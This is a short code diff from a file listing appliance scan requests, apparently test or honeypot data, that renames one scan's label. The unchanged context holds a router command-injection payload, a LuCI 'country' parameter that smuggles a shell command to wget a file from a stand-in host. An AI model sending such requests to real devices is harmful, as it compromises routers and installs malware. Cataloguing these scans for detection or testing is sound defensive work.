@@ -30,7 +30,7 @@ export const APPLIANCE_SCANS = [
     `,
   ),
   scan(
-    'routers that run what they are told',
+    'routers that run any command',
     { on: HOSTS, agents: ['Hello, World', 'Mozilla/5.0', '', 'r00ts3c-owned-you'], pace: 20 },
     `
     GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F203.0.113.9%2Fshk%60)
